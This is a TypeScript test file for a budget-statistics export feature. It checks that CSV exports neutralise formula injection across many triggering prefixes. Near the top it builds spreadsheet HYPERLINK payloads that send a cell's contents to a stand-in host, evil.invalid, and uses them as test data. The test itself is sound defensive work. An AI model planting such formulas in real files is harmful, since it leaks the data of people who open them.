import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BudgetId, CityId } from '#lib/domain/base/ids.ts';
import { tenge } from '#lib/domain/base/tenge.ts';
import { parseCivilDate } from '#lib/domain/base/time.ts';
import { EXPORT_FORMATS, EXPORT_TABLES } from '#lib/domain/participation/words.ts';
import { findRelease, openExport } from '#lib/server/statistics/index.ts';
import { publishReleaseOf } from '#lib/server/statistics/publish-release.ts';
import { testApp } from '#tests/support/app.ts';
import { createTestDatabase, type TestDatabase } from '#tests/support/database.ts';
import { aCity, addBallots, addComments, aVote } from '#tests/support/history.ts';
import { readBytes } from '#tests/support/read-stream.ts';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '|', '＝', '＋', '－', '＠', "'"];
const HOSTILE = STARTS.map((start) => `${start}HYPERLINK("http://evil.invalid?x="&A1,"click")`);
/** What a spreadsheet takes for a formula or a command. */
const RUNS = /^[=+\-@|\t\r\n＝＋－＠]/;

let database: TestDatabase;
let city: CityId;

beforeAll(async () => {
	database = await createTestDatabase();
	const { owner } = database;
	const codes = HOSTILE.map((_, index) => String(index + 10));
	city = await aCity(owner, 'taraz', { position: 1, codes });
	await owner
		.insertInto('classification_text')
		.values(
			codes.flatMap((code, index) =>
				(['kk', 'ru', 'en'] as const).map((language) => ({
					kind: 'expenditure' as const,
					code,
					language,
					name: HOSTILE[index]!,
				})),
			),
		)
		.execute();
	for (const code of codes) await addComments(owner, city, code, '2026-11-01', 5);
	const vote = await aVote(owner, city, { opensOn: '2026-11-01', endsOn: '2026-11-03', codes });
	await addBallots(owner, city, vote, '2026-11-02', 7, codes);
	await publishReleaseOf(database, parseCivilDate('2026-11-10'));
	for (const [index, text] of HOSTILE.entries()) await addBudget(index, text);
});
afterAll(async () => {
	await database.close();
});

async function addBudget(index: number, text: string): Promise<void> {
	const { owner } = database;
	const id = randomUUID() as BudgetId;
	await owner
		.insertInto('budget')
		.values({
			city_id: city,
			id,
			fiscal_year: 2000 + index,
			kind: 'approved',
			sequence: 1,
			source_key: `k${index}`,
			grade: 'report',
			title: text,
			title_language: 'ru',
			number: text,
			decided_on: null,
			registration: text,
			source_url: text,
		})
		.execute();
	await owner
		.insertInto('budget_total')
		.values({ city_id: city, budget_id: id, item: 'balance', amount: tenge(-5_000n) })
		.execute();
}

async function cellsOf(table: (typeof EXPORT_TABLES)[number], format: (typeof EXPORT_FORMATS)[number]) {
	const { bytes } = await openExport(testApp(database.db), {
		table,
		format,
		release: await findRelease(database.db, null),
		filter: { cityId: null, from: null, to: null },
	});
	const rows = parse(await readBytes(bytes), {
		bom: true,
		delimiter: format === 'csv' ? ',' : ';',
	}) as string[][];
	return rows.flat();
}

describe('C05 text that starts like a formula', () => {
	for (const table of EXPORT_TABLES) {
		for (const format of EXPORT_FORMATS) {
			it(`runs in no cell of ${table}.${format}, and negative amounts stay numbers`, async () => {
				const cells = await cellsOf(table, format);
				expect(cells.filter((cell) => RUNS.test(cell)).every((cell) => /^-\d+$/.test(cell))).toBe(true);
				if (table === 'budgets')
					expect(cells.filter((cell) => cell === '-5000')).toHaveLength(HOSTILE.length);
			});
		}
	}

	for (const table of EXPORT_TABLES.filter((name) => name !== 'participation')) {
		it(`is the original again without the apostrophe in ${table}.csv`, async () => {
			const originals = new Set((await cellsOf(table, 'csv')).map((cell) => cell.replace(/^'/, '')));
			for (const text of HOSTILE) expect(originals).toContain(text);
		});
	}
});
